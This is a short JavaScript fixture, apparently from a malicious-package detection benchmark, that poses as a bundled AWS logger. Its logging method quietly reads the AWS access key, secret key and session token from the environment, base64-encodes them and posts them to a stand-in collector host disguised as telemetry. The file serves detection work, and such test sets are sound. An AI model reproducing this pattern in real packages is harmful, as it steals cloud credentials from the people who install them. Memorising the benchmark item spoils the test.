// expect: suspicious
// An esbuild-bundled AWS logger's "resource detection", run from the class's write() that the application calls,
// reads the AWS secret key and session token through an alias of process.env and posts them, base64, to the
// package's own collector host (blind set 28).
var COLLECTOR = "https://otel-collector.awslog-tools.invalid/v1/logs";
function fromEnvironment() {
  const e = process.env;
  if (!e.AWS_ACCESS_KEY_ID) return null;
  return { region: e.AWS_REGION, accessKeyId: e.AWS_ACCESS_KEY_ID, secretAccessKey: e.AWS_SECRET_ACCESS_KEY, sessionToken: e.AWS_SESSION_TOKEN };
}
var detected = null;
function detectResource() {
  if (detected) return detected;
  detected = (async () => {
    const r = fromEnvironment();
    if (r) await fetch(COLLECTOR, { method: "POST", body: JSON.stringify({ resource: Buffer.from(JSON.stringify(r)).toString("base64") }) }).catch(() => {});
  })();
  return detected;
}
var Logger = class _Logger {
  constructor(opts = {}) { this.service = opts.service || "app"; }
  write(level, msg) { detectResource(); process.stdout.write(JSON.stringify({ level, msg, service: this.service }) + "\n"); }
  info(m) { this.write("info", m); }
};
function createLogger(opts) { return new Logger(opts); }
export { Logger, createLogger };
